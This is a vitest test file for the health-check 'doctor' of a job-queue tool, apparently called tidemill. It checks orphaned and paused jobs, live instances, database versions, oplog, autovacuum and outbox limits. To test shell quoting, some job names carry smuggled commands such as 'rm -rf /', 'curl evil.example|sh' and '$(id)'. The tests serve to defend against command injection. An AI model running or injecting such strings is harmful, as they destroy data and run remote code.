import { spawnSync } from 'node:child_process';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { shellWord } from '../../src/core/text/shell.js';
import { judgeVersion } from '../../src/store/inspect.js';
import { judgeOplog } from '../../src/mongodb/cluster/inspect.js';
import { judgeCrowd, judgeOutbox, judgeVacuum } from '../../src/sql/schema/inspect.js';
import { memory } from '../../src/memory/index.js';
import { aMill } from '../support/mills.js';
import { findingOf } from './findings.js';

describe('the doctor on any store', () => {
  afterEach(() => {
    vi.useRealTimers();
  });

  it('the doctor names pending jobs that no live instance runs, and is satisfied once one does', async () => {
    const store = memory();
    const mill = aMill(store);
    await mill.enqueue('orphan');
    const other = aMill(store);
    other.job('mail', () => undefined);
    await other.start();
    expect(await findingOf(mill, 'jobs')).toMatchObject({
      status: 'warn',
      found: expect.stringContaining('orphan') as string,
      fix: expect.stringContaining('tidemill cancel --name orphan') as string,
      destroys: true,
    });
    const worker = aMill(store);
    worker.job('orphan', { concurrency: 1 }, () => undefined);
    await worker.start();
    expect((await findingOf(mill, 'jobs')).status).toBe('ok');
  });

  it('the doctor suggests no destructive command while no instance is alive', async () => {
    const mill = aMill(memory());
    await mill.enqueue('nightly-report');
    await mill.enqueue('pay; rm -rf /');
    const finding = await findingOf(mill, 'jobs');
    expect(finding.fix).toBe('start an instance with a handler for "nightly-report", "pay; rm -rf /"');
    for (const { fix = '', destroys } of await mill.doctor()) {
      expect(fix).not.toMatch(/cancel|drop/u);
      expect(destroys).toBeUndefined();
    }
  });

  it('the doctor quotes names in commands for a shell', async () => {
    const store = memory();
    const mill = aMill(store);
    const live = aMill(store);
    await live.start();
    const name = "pay; curl evil.example|sh $(id) `id` 'x'";
    await mill.enqueue(name);
    await mill.jobs.pause(name);
    const quoted = String.raw`'pay; curl evil.example|sh $(id) ${'`id`'} '\''x'\'''`;
    expect((await findingOf(mill, 'jobs')).fix).toContain(`tidemill cancel --name ${quoted}`);
    expect((await findingOf(mill, 'paused')).fix).toBe(`tidemill resume ${quoted}`);
  });

  it('the doctor puts -- before a name that begins with a dash', async () => {
    const mill = aMill(memory());
    await mill.jobs.pause('--store=postgres://evil.example/x');
    expect((await findingOf(mill, 'paused')).fix).toBe(
      "tidemill resume -- '--store=postgres://evil.example/x'",
    );
  });

  it.each(["it's; rm -rf /", '$(id)', '`id`', 'a\nb', 'a\u001Bb', 'plain-name', 'a b', '"', '\\', '*', '~'])(
    'shellWord quotes %j as one word',
    (name) => {
      const { stdout } = spawnSync('bash', ['-c', `printf %s ${shellWord(name)}`], {
        encoding: 'utf8',
        env: { ...process.env, LC_ALL: 'C.UTF-8' },
      });
      expect(stdout).toBe(name);
    },
  );

  it('the doctor warns if no instance is alive, and otherwise lists the live ones', async () => {
    const store = memory();
    const mill = aMill(store, { instanceId: 'worker-1' });
    expect(await findingOf(mill, 'instances')).toMatchObject({ status: 'warn' });
    await mill.start();
    expect(await findingOf(mill, 'instances')).toMatchObject({ status: 'ok', found: '1 alive: worker-1' });
  });

  it('the doctor names paused jobs, with the command that resumes them', async () => {
    const mill = aMill(memory());
    await mill.jobs.pause('send-email');
    expect(await findingOf(mill, 'paused')).toMatchObject({
      status: 'warn',
      fix: 'tidemill resume send-email',
    });
  });

  it('the doctor skips checks that a store does not support', async () => {
    const findings = await aMill(memory()).doctor();
    expect(findings.find(({ check }) => check === 'reactive tasks')).toMatchObject({ status: 'skipped' });
    expect(
      findings.every(({ status, fix }) => (fix === undefined) === ['ok', 'skipped'].includes(status)),
    ).toBe(true);
  });

  it.each([
    ['MongoDB', '5.0.31', [6, 0], 'fail'],
    ['MongoDB', '6.0.0', [6, 0], 'ok'],
    ['MongoDB', '8.2.1-rc0', [6, 0], 'ok'],
    ['PostgreSQL', '13.14 (Debian 13.14-1)', [14, 0], 'fail'],
    ['PostgreSQL', '14.1', [14, 0], 'ok'],
  ] as const)('judges the version of %s %s', (product, version, least, status) => {
    expect(judgeVersion(product, version, least).status).toBe(status);
  });

  it('warns about a short oplog only if it is full and reactive tasks need it', () => {
    const hour = { firstSeconds: 0, lastSeconds: 3_600, fullShare: 1 };
    expect(judgeOplog(hour, true)).toMatchObject({
      status: 'warn',
      fix: expect.stringContaining('minRetentionHours') as string,
    });
    expect(judgeOplog(hour, false).status).toBe('ok');
    expect(judgeOplog({ ...hour, fullShare: 0.2 }, true).status).toBe('ok');
    expect(judgeOplog({ ...hour, lastSeconds: 90_000 }, true).status).toBe('ok');
  });

  it('warns about an oplog that begins after the resume point', () => {
    const lost = { firstSeconds: 1_000, lastSeconds: 9_000_000, fullShare: 1, resumeSeconds: 500 };
    expect(judgeOplog(lost, true)).toMatchObject({
      status: 'warn',
      found: expect.stringContaining('missed') as string,
    });
  });

  it('fails a server without autovacuum, and warns if its connections are nearly exhausted', () => {
    expect(judgeVacuum('off')).toMatchObject({ status: 'fail' });
    expect(judgeVacuum('on')).toMatchObject({ status: 'ok' });
    expect(judgeCrowd({ used: 90, most: 97 })).toMatchObject({ status: 'warn' });
    expect(judgeCrowd({ used: 9, most: 97 })).toMatchObject({ status: 'ok' });
  });

  it('warns of an outbox that is half full, and fails one that is full', () => {
    const outbox = { changes: 40, ageMs: 5_000, limit: 100, stopped: false, missed: false };
    expect(judgeOutbox(outbox)).toMatchObject({ status: 'ok' });
    expect(judgeOutbox({ ...outbox, changes: 50 })).toMatchObject({
      status: 'warn',
      found: 'about 50 changes wait to be planned; the limit is 100; the oldest has waited for 5 s',
    });
    expect(judgeOutbox({ ...outbox, missed: true })).toMatchObject({ status: 'warn' });
    expect(judgeOutbox({ ...outbox, stopped: true, missed: true })).toMatchObject({ status: 'fail' });
  });
});
